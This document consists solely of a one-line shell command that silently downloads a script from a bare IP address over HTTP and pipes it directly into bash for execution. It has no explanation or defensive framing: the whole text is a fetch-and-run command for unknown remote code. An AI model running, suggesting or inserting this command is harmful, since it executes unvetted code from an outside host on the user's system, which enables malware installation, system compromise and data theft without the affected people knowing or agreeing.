bash -c "curl -s http://45.33.32.156/x.sh | bash"
